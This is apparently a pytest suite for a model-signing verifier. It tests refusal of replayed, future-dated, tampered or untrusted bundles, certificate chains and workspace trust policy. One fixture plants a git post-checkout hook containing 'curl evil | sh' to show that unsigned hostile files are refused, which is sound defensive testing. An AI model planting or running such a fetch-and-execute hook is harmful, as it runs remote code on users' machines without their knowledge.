"""Bundles of model-signing: made here and read there, made there and read here, and its gaps."""

from __future__ import annotations

import base64
import functools
import json
import shutil
import socket
import subprocess
import sys
import time
from dataclasses import dataclass
from datetime import UTC, datetime
from importlib import import_module
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.x509.oid import NameOID
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from registry.errors import IntegrityError, UserError
from registry.keys import PrivateKey
from registry.manifest import Manifest
from registry.oms import MEDIA_TYPE, Trusted, verify_bundle
from registry.oms_library import sign_manifest
from registry.source_trust import (
    check_source,
    refuse_replay,
    refuse_unsigned_parts,
    signature_of,
    trusted_by,
    verify_folder,
)
from registry.workspace import Workspace

from .conftest import write_tree

if TYPE_CHECKING:
    from collections.abc import Callable

PROGRAM = Path(sys.executable).parent / "model_signing"
NOW = 1_800_000_000.0
FILES = {"config.json": b"{}", "sub/weights.bin": bytes(range(256)) * 9, "sub-x": b"\0"}


def library(module: str) -> Any:
    """A `Config` of model-signing, which ships half its types."""
    return import_module(f"model_signing.{module}").Config()


@functools.cache
def alice() -> PrivateKey:
    return PrivateKey.generate()


@dataclass
class Model:
    """A folder with its signature beside it, and the key of its signer."""

    folder: Path
    key: PrivateKey

    @property
    def bundle(self) -> Path:
        return signature_of(self.folder)

    @property
    def public(self) -> Path:
        path = self.folder.parent / "alice.pub.pem"
        path.write_bytes(self.key.public.to_pem())
        return path

    @property
    def private(self) -> Path:
        path = self.folder.parent / "alice.pem"
        path.write_bytes(self.key.to_pem())
        path.chmod(0o600)
        return path

    def sign(self, model: str = "speech", at: float = NOW) -> None:
        bundle = sign_manifest(
            Manifest.of_folder(self.folder), self.key, name=self.folder.name, model=model, at=at
        )
        self.bundle.write_bytes(bundle)

    def verify(self, **named: Any) -> Any:
        trusted = Trusted((self.key.public,))
        return verify_folder(self.folder, self.bundle, trusted, at=NOW, **named)[0]

    def theirs(self, *, links: bool = False) -> None:
        """The library's own verification, as its program does it; raises when it refuses."""
        checker = library("verifying").use_elliptic_key_verifier(public_key=self.public)
        checker.set_hashing_config(library("hashing").set_allow_symlinks(links))
        checker.verify(self.folder, self.bundle)

    def signed_by_theirs(self, how: Any) -> None:
        """As the library signs, with a hashing configuration of its own."""
        signer = library("signing").use_elliptic_key_signer(private_key=self.private)
        signer.set_hashing_config(how).sign(self.folder, self.bundle)


@pytest.fixture
def model(tmp_path: Path) -> Model:
    found = Model(write_tree(tmp_path / "whisper", FILES), alice())
    found.sign()
    return found


def cli(*arguments: object) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [PROGRAM, *map(str, arguments)], capture_output=True, text=True, check=False, timeout=60
    )


def test_the_program_of_others_verifies_our_signature(model: Model) -> None:
    signature = ("--signature", model.bundle, "--public_key", model.public)
    ran = cli("verify", "key", model.folder, *signature)
    assert (ran.returncode, ran.stdout) == (0, "Verification succeeded\n"), ran.stderr
    document = json.loads(model.bundle.read_bytes())
    assert document["mediaType"] == MEDIA_TYPE


def test_a_signature_by_the_program_of_others_is_verified(model: Model) -> None:
    ran = cli(
        "sign", "key", model.folder, "--signature", model.bundle, "--private_key", model.private
    )
    assert ran.returncode == 0, ran.stderr
    signed = model.verify()
    assert (signed.signer, signed.name) == (f"key {model.key.public.id}", "whisper")
    assert (signed.model, signed.at) == ("", None)


def test_who_signed_what_is_told(model: Model) -> None:
    signed = model.verify(model="speech")
    assert signed.to_dict() == {
        "signer": f"key {model.key.public.id}",
        "name": "speech",
        "model": "speech",
        "at": NOW,
        "statement": signed.statement,
    }


# What the library accepts, and this house does not.


def empty_folder(model: Model) -> None:
    (model.folder / "sub" / "empty" / "deep").mkdir(parents=True)


def git_folder(model: Model) -> None:
    write_tree(model.folder, {".git/hooks/post-checkout": b"#!/bin/sh\ncurl evil | sh\n"})


def ignored_by_git(model: Model) -> None:
    write_tree(model.folder, {".gitignore": b"*"})


def attributes_of_git(model: Model) -> None:
    write_tree(model.folder, {".gitattributes": b"* filter=evil"})


def workflow(model: Model) -> None:
    write_tree(model.folder, {".github/workflows/x.yml": b"on: push"})


def ignore_list_of_the_bundle(model: Model) -> None:
    write_tree(model.folder, {"extra.py": b"import os"})
    model.signed_by_theirs(library("hashing").set_ignored_paths(paths=["extra.py"]))


def program_mode(model: Model) -> None:
    (model.folder / "config.json").chmod(0o755)


def set_id_mode(model: Model) -> None:
    (model.folder / "config.json").chmod(0o4644)


def another_name(model: Model) -> None:
    """The folder and its signature, moved to the name of another model."""
    model.sign(model="")
    model.bundle.rename(model.bundle.with_name("translator.sig"))
    model.folder = model.folder.rename(model.folder.with_name("translator"))


@pytest.mark.parametrize(
    ("change", "refusal"),
    [
        (empty_folder, "deep: an empty folder is in no signature"),
        (git_folder, ".git/hooks/post-checkout is not in the signed list"),
        (ignored_by_git, ".gitignore is not in the signed list"),
        (attributes_of_git, ".gitattributes is not in the signed list"),
        (workflow, ".github/workflows/x.yml is not in the signed list"),
        (ignore_list_of_the_bundle, "extra.py is not in the signed list"),
        (program_mode, "has mode 0755; chmod 644 it"),
        (set_id_mode, "has mode 4644; chmod 644 it"),
        (another_name, "was signed under the name 'whisper'; call the folder that"),
    ],
)
def test_what_the_library_accepts_is_refused(
    model: Model, change: Callable[[Model], None], refusal: str
) -> None:
    change(model)
    model.theirs()
    with pytest.raises(IntegrityError) as caught:
        model.verify()
    assert refusal in str(caught.value)


def test_a_symbolic_link_is_refused_even_where_the_bundle_allows_it(model: Model) -> None:
    (model.folder / "sub-x").unlink()
    (model.folder / "sub-x").symlink_to(model.folder / "config.json")
    model.signed_by_theirs(library("hashing").set_allow_symlinks(True))
    model.theirs(links=True)
    with pytest.raises(IntegrityError, match="symbolic links are refused"):
        model.verify()


def test_an_older_bundle_is_a_replay(model: Model, tmp_path: Path) -> None:
    """The old folder with its old signature is whole: only the past tells that it is not new."""
    shutil.copytree(model.folder, tmp_path / "old")
    first = model.verify()
    (model.folder / "config.json").write_bytes(b"{2}")
    model.sign(at=NOW + 60)
    second = model.verify()
    shutil.rmtree(model.folder)
    shutil.copytree(tmp_path / "old", model.folder)
    model.sign()
    model.theirs()
    again = model.verify()
    assert again.statement == first.statement
    refuse_replay(first, [])
    refuse_replay(second, [first.to_dict(), second.to_dict()])
    with pytest.raises(IntegrityError, match="replaced by a newer one: this is a replay"):
        refuse_replay(again, [first.to_dict(), second.to_dict()])
    with pytest.raises(IntegrityError, match="signed before what is registered already"):
        refuse_replay(first, [second.to_dict()])


@pytest.mark.parametrize("at", [NOW + 90_000, float("nan")])
def test_a_bundle_of_the_future_is_refused(model: Model, at: float) -> None:
    """It would make a replay of every later one."""
    model.sign(at=NOW + 80_000)
    assert model.verify().at == NOW + 80_000
    model.bundle.write_bytes(
        resigned(model, lambda statement: statement["predicate"]["sluice"].update(at=at))
    )
    with pytest.raises(IntegrityError, match="was signed in the future"):
        model.verify()


def test_a_bundle_for_another_model_is_refused(model: Model) -> None:
    model.theirs()
    with pytest.raises(IntegrityError, match="was signed for model 'speech', not for 'translator'"):
        model.verify(model="translator")


def test_a_signature_inside_the_folder_is_not_passed_over(model: Model) -> None:
    shutil.copy(model.bundle, model.folder / "model.sig")
    with pytest.raises(IntegrityError, match=r"model\.sig is not in the signed list"):
        model.verify()


def test_a_strangers_signature_is_refused(model: Model) -> None:
    trusted = Trusted((PrivateKey.generate().public,))
    with pytest.raises(IntegrityError, match=r"nobody|not signed by anybody who is trusted"):
        verify_folder(model.folder, model.bundle, trusted, at=NOW)
    with pytest.raises(IntegrityError, match="not signed by anybody who is trusted"):
        verify_folder(model.folder, model.bundle, Trusted(), at=NOW)


def test_shards_and_other_hashes_are_refused(model: Model) -> None:
    for how in (
        library("hashing").use_shard_serialization(),
        library("hashing").use_file_serialization(hashing_algorithm="blake3"),
    ):
        model.signed_by_theirs(how)
        with pytest.raises(IntegrityError, match="not over whole files by SHA-256; sign it with"):
            model.verify()


def test_an_ed25519_key_is_refused_before_anything(tmp_path: Path) -> None:
    manifest = Manifest.of_folder(write_tree(tmp_path / "m", FILES))
    old = PrivateKey(Ed25519PrivateKey.generate())
    with pytest.raises(UserError, match="takes no Ed25519 key; `sluice keys rotate`"):
        sign_manifest(manifest, old, name="m", model="", at=NOW)


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(data=st.data())
def test_no_change_of_the_folder_goes_unseen(
    model: Model, tmp_path: Path, data: st.DataObject
) -> None:
    copy = tmp_path / "copies" / model.folder.name
    shutil.rmtree(copy.parent, ignore_errors=True)
    shutil.copytree(model.folder, copy)
    name = data.draw(st.sampled_from(sorted(FILES)))
    path = copy / name
    change = data.draw(
        st.sampled_from(["byte", "longer", "shorter", "gone", "name", "extra", "mode", "swapped"])
    )
    if change == "byte":
        content = bytearray(path.read_bytes())
        content[data.draw(st.integers(0, len(content) - 1))] ^= data.draw(st.integers(1, 255))
        path.write_bytes(content)
    elif change == "longer":
        path.write_bytes(path.read_bytes() + data.draw(st.binary(min_size=1, max_size=3)))
    elif change == "shorter":
        path.write_bytes(path.read_bytes()[:-1])
    elif change == "gone":
        path.unlink()
    elif change == "name":
        path.rename(path.with_name(data.draw(st.sampled_from(["x", "Config.json", "sub-y"]))))
    elif change == "extra":
        new = data.draw(st.sampled_from(["x", ".git/x", ".gitignore", "sub/y/z", "w.sig", "é"]))
        write_tree(copy, {new: b""})
    elif change == "mode":
        path.chmod(data.draw(st.sampled_from([0o755, 0o645, 0o654, 0o744, 0o2644, 0o1644])))
    else:
        other = copy / data.draw(st.sampled_from(sorted(set(FILES) - {name})))
        ours, theirs = path.read_bytes(), other.read_bytes()
        path.write_bytes(theirs)
        other.write_bytes(ours)
    with pytest.raises(IntegrityError):
        verify_folder(copy, model.bundle, Trusted((model.key.public,)), at=NOW)


@settings(
    max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(at=st.integers(0, 10_000_000), bit=st.integers(0, 7))
def test_a_changed_bundle_is_refused_or_says_the_same(model: Model, at: int, bit: int) -> None:
    """What may change are white space and fields that no reader looks at; no word of what it says.

    A bundle of other tools has no one spelling, unlike our own records and attestations.
    """
    content = bytearray(model.bundle.read_bytes())
    content[at % len(content)] ^= 1 << bit
    manifest, trusted = Manifest.of_folder(model.folder), Trusted((model.key.public,))
    whole = verify_bundle(manifest, model.bundle.read_bytes(), trusted, at=NOW)
    try:
        found = verify_bundle(manifest, bytes(content), trusted, at=NOW)
    except IntegrityError:
        return
    assert found == whole


def resigned(model: Model, change: Callable[[dict[str, Any]], Any]) -> bytes:
    """The bundle with another statement, signed by the same key: a signer's tool gone wrong."""
    from registry.attestation import pae

    document = json.loads(model.bundle.read_bytes())
    envelope = document["dsseEnvelope"]
    statement = json.loads(base64.b64decode(envelope["payload"]))
    change(statement)
    payload = json.dumps(statement).encode()
    envelope["payload"] = base64.b64encode(payload).decode()
    envelope["signatures"][0]["sig"] = base64.b64encode(model.key.sign(pae(payload))).decode()
    return json.dumps(document).encode()


@pytest.mark.parametrize(
    ("change", "refusal"),
    [
        (lambda s: s.update(predicateType="https://model_signing/Digests/v0.1"), "whole files"),
        (lambda s: s.update(_type="x"), "whole files"),
        (lambda s: s["predicate"]["serialization"].update(allow_symlinks=True), "symbolic links"),
        (lambda s: s["predicate"]["resources"].append(s["predicate"]["resources"][0]), "twice"),
        (lambda s: s["predicate"]["resources"].reverse(), "digest is not that of its files"),
        (lambda s: s["predicate"]["resources"].pop(), "digest is not that of its files"),
        (lambda s: s["predicate"]["sluice"].update(digest="00" * 32), "signed digest is another"),
        (lambda s: s["predicate"].pop("resources"), "is not a bundle"),
        (lambda s: s.update(subject=[]), "is not a bundle"),
        (lambda s: s.update(predicate=[]), "is not a bundle"),
        (lambda s: s["predicate"]["sluice"].update(at="soon"), "is not a bundle"),
    ],
)
def test_a_trusted_signers_odd_statement_is_refused(
    model: Model, change: Callable[[dict[str, Any]], Any], refusal: str
) -> None:
    manifest, trusted = Manifest.of_folder(model.folder), Trusted((model.key.public,))
    with pytest.raises(IntegrityError, match=refusal):
        verify_bundle(manifest, resigned(model, change), trusted, at=NOW)


@pytest.mark.parametrize(
    "content", [b"", b"{}", b"[]", b"[" * 99_999, b'{"dsseEnvelope": 5}', b"\xff", b'{"a":1,"a":2}']
)
def test_what_is_no_bundle_is_one_line(model: Model, content: bytes) -> None:
    model.bundle.write_bytes(content)
    with pytest.raises(IntegrityError, match=r"whisper\.sig: is not a bundle of model-signing"):
        model.verify()


# Certificates.


@dataclass
class Authority:
    """A certificate authority and one signer below it."""

    root: Path
    leaf: Path
    key: Path

    @classmethod
    def at(cls, folder: Path, *, ends: datetime) -> Authority:
        began = datetime(2026, 1, 1, tzinfo=UTC)
        top, below = (ec.generate_private_key(ec.SECP256R1()) for _ in range(2))
        names = [
            x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, name)]) for name in ("lab", "alice")
        ]

        def certificate(subject: int, key: Any, *, is_authority: bool) -> x509.CertificateBuilder:
            return (
                x509.CertificateBuilder()
                .subject_name(names[subject])
                .issuer_name(names[0])
                .public_key(key.public_key())
                .serial_number(x509.random_serial_number())
                .not_valid_before(began)
                .not_valid_after(ends)
                .add_extension(x509.BasicConstraints(is_authority, None), critical=True)
                .add_extension(
                    x509.KeyUsage(
                        digital_signature=True, key_cert_sign=is_authority,
                        crl_sign=is_authority, content_commitment=False, key_encipherment=False,
                        data_encipherment=False, key_agreement=False, encipher_only=False,
                        decipher_only=False,
                    ),
                    critical=True,
                )
            )  # fmt: skip

        made = cls(folder / "lab.pem", folder / "leaf.pem", folder / "leaf.key.pem")
        for path, subject, key, is_authority in (
            (made.root, 0, top, True),
            (made.leaf, 1, below, False),
        ):
            signed = certificate(subject, key, is_authority=is_authority).sign(top, hashes.SHA256())
            path.write_bytes(signed.public_bytes(serialization.Encoding.PEM))
        made.key.write_bytes(PrivateKey(below).to_pem())
        return made

    def sign(self, model: Model) -> None:
        library("signing").use_certificate_signer(
            private_key=self.key, signing_certificate=self.leaf, certificate_chain=[self.root]
        ).sign(model.folder, model.bundle)


LATER = datetime(2036, 1, 1, tzinfo=UTC)


@pytest.mark.filterwarnings("ignore::DeprecationWarning")
def test_a_certificate_of_a_trusted_authority_is_verified(model: Model, tmp_path: Path) -> None:
    lab = Authority.at(tmp_path, ends=LATER)
    lab.sign(model)
    trusted = Trusted(certificates=(lab.root,))
    signed, _ = verify_folder(model.folder, model.bundle, trusted, at=NOW)
    assert signed.signer == "certificate CN=alice"
    (model.folder / "config.json").write_bytes(b"{2}")
    with pytest.raises(IntegrityError, match="model-signing refuses it: Signature mismatch"):
        verify_folder(model.folder, model.bundle, trusted, at=NOW)


@pytest.mark.filterwarnings("ignore::DeprecationWarning")
def test_another_authority_and_a_certificate_that_is_over_are_refused(
    model: Model, tmp_path: Path
) -> None:
    (tmp_path / "other").mkdir()
    lab = Authority.at(tmp_path, ends=datetime(2026, 2, 1, tzinfo=UTC))
    other = Authority.at(tmp_path / "other", ends=LATER)
    lab.sign(model)
    with pytest.raises(IntegrityError, match="model-signing refuses it"):
        verify_folder(model.folder, model.bundle, Trusted(certificates=(other.root,)), at=NOW)
    theirs = library("verifying").use_certificate_verifier(certificate_chain=[lab.root])
    theirs.verify(model.folder, model.bundle)
    with pytest.raises(IntegrityError, match="certificate is not valid now"):
        verify_folder(model.folder, model.bundle, Trusted(certificates=(lab.root,)), at=NOW)


def test_without_a_network_sigstore_is_one_line(model: Model, tmp_path: Path) -> None:
    """Signing without a key needs Fulcio, Rekor and somebody to log in, which no test here has.

    What is shown is how a bundle of that kind is refused.
    """
    document = json.loads(model.bundle.read_bytes())
    document["verificationMaterial"] = {"certificate": {"rawBytes": "AA=="}, "tlogEntries": []}
    model.bundle.write_text(json.dumps(document))
    with pytest.raises(IntegrityError, match="not signed by anybody who is trusted"):
        model.verify()
    root = tmp_path / "root.json"
    root.write_text("{}")
    trusted = Trusted(keyless=(("ann@example.com", "https://id.example.com"),), sigstore_trust=root)
    with pytest.raises(IntegrityError, match="Sigstore's trusted root cannot be had"):
        verify_folder(model.folder, model.bundle, trusted, at=NOW)


def test_sigstores_own_root_vouches_for_no_garbage(model: Model) -> None:
    try:
        socket.create_connection(("tuf-repo-cdn.sigstore.dev", 443), timeout=2).close()
    except OSError as error:
        pytest.skip(f"Sigstore's trusted root is on the network, which is not here: {error}")
    document = json.loads(model.bundle.read_bytes())
    document["verificationMaterial"] = {"certificate": {"rawBytes": "AA=="}, "tlogEntries": []}
    model.bundle.write_text(json.dumps(document))
    trusted = Trusted(keyless=(("ann@example.com", "https://accounts.example.com"),))
    with pytest.raises(IntegrityError, match="Sigstore does not vouch for it"):
        verify_folder(model.folder, model.bundle, trusted, at=NOW)


# The workspace's policy.


@pytest.fixture
def workspace(tmp_path: Path, model: Model) -> Workspace:
    root = tmp_path / "workspace"
    write_tree(root / "keys", {"alice.pub.pem": model.key.public.to_pem()})
    (root / "sluice.toml").write_text('[trust]\nsigners = ["keys/alice.pub.pem"]\n')
    return Workspace(root)


def require(workspace: Workspace) -> Workspace:
    path = workspace.root / "sluice.toml"
    path.write_text(path.read_text() + "require_signature = true\n")
    return Workspace(workspace.root)


def test_a_folder_comes_in_by_the_signature_beside_it(workspace: Workspace, model: Model) -> None:
    model.sign(at=time.time())
    manifest = Manifest.of_folder(model.folder)
    signed = check_source(workspace, "speech", model.folder, manifest)
    assert signed is not None
    assert signed["signer"] == f"key {model.key.public.id}"
    again = check_source(
        workspace, "speech", model.folder, manifest, earlier=[{"signature": signed}, {}]
    )
    assert again == signed
    with pytest.raises(IntegrityError, match="was signed for model 'speech'"):
        check_source(workspace, "translator", model.folder, manifest)
    elsewhere = model.bundle.rename(model.bundle.with_name("elsewhere"))
    assert check_source(workspace, "speech", model.folder, manifest) is None
    assert check_source(workspace, "speech", model.folder, manifest, signature=elsewhere) == signed


def test_an_archive_comes_in_by_the_signature_beside_it(workspace: Workspace, model: Model) -> None:
    model.sign(model="", at=time.time())
    manifest = Manifest.of_folder(model.folder)
    archive = Path(shutil.make_archive(str(model.folder), "tar", model.folder))
    shutil.move(model.bundle, signature_of(archive))
    unpacked = model.folder.rename(model.folder.with_name("unpacked"))
    signed = check_source(workspace, "speech", archive, manifest, unpacked=unpacked)
    assert signed is not None
    assert signed["name"] == "whisper"
    other = archive.rename(archive.with_name("translator.tar"))
    shutil.move(signature_of(archive), signature_of(other))
    with pytest.raises(IntegrityError, match="was signed under the name 'whisper'"):
        check_source(workspace, "speech", other, manifest, unpacked=unpacked)


def test_everybody_whom_the_policy_names_is_trusted(workspace: Workspace, model: Model) -> None:
    (workspace.root / "lab.pem").write_bytes(b"")
    path = workspace.root / "sluice.toml"
    path.write_text(
        path.read_text()
        + 'certificates = ["lab.pem"]\nsigstore_trust = "lab.pem"\n'
        + '[[trust.keyless]]\nidentity = "ann"\nissuer = "https://id.example.com"\n'
    )
    trusted = trusted_by(Workspace(workspace.root))
    assert [one.id for one in trusted.signers] == [model.key.public.id]
    assert trusted.certificates == (workspace.root / "lab.pem",)
    assert trusted.keyless == (("ann", "https://id.example.com"),)
    assert trusted.sigstore_trust == workspace.root / "lab.pem"


def test_an_unsigned_folder_is_refused_where_a_signature_is_required(
    workspace: Workspace, model: Model
) -> None:
    model.bundle.unlink()
    manifest = Manifest.of_folder(model.folder)
    with pytest.raises(UserError, match=r"is not signed, and \[trust\] requires it; `sluice sign`"):
        check_source(require(workspace), "speech", model.folder, manifest)


def test_a_signer_that_is_not_there_is_named(workspace: Workspace) -> None:
    (workspace.root / "keys" / "alice.pub.pem").unlink()
    with pytest.raises(UserError, match=r"alice\.pub\.pem: there is no such file; see \[trust\]"):
        trusted_by(workspace)


def test_a_plain_folder_has_no_unsigned_parts(tree: Path) -> None:
    refuse_unsigned_parts(tree)
    for path in tree.rglob("*"):
        path.chmod(0o700 if path.is_dir() else 0o600)
    refuse_unsigned_parts(tree)
